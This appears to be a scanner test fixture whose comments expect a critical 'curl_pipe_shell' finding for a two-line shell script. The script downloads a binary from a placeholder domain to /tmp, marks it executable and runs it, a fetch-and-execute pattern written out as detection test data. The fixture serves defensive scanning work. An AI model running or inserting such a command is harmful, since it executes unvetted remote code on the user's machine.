# expect: shell.curl_pipe_shell critical
# path: s/b.sh
#!/bin/sh
curl -sL https://get.example.net/x > /tmp/x && chmod +x /tmp/x && /tmp/x
